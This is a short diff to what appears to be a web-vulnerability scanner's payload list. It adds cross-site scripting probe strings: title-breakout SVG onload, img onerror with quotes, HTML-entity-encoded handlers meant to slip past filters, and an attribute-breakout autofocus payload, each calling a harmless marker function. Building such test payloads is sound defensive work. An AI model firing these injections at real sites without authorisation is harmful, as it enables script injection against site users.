@@ -112,6 +112,7 @@ export const sqlTime = waits([
 ]);
 
 const call = 'proof()';
+const entities = (code: string) => [...code].map((sign) => `&#${sign.charCodeAt(0)};`).join('');
 export const script = shows(
   [
     `<img src=x onerror=${call}>`,
@@ -135,6 +136,12 @@ export const script = shows(
     `0;${call}`,
     `javascript:${call}`,
     `<svg onload=${call}>`,
+    `</title><svg/onload=${call}>`,
+    // Quotes, for pages that print only what they refuse.
+    `<img src=x onerror="${call}" alt='x'>`,
+    // Entities have no capitals.
+    ...['', '">'].map((before) => `${before}<img src=x onerror=${entities(call)}>`),
+    `" onfocus="${entities(call)}" autofocus x="`,
   ],
   runs,
 );
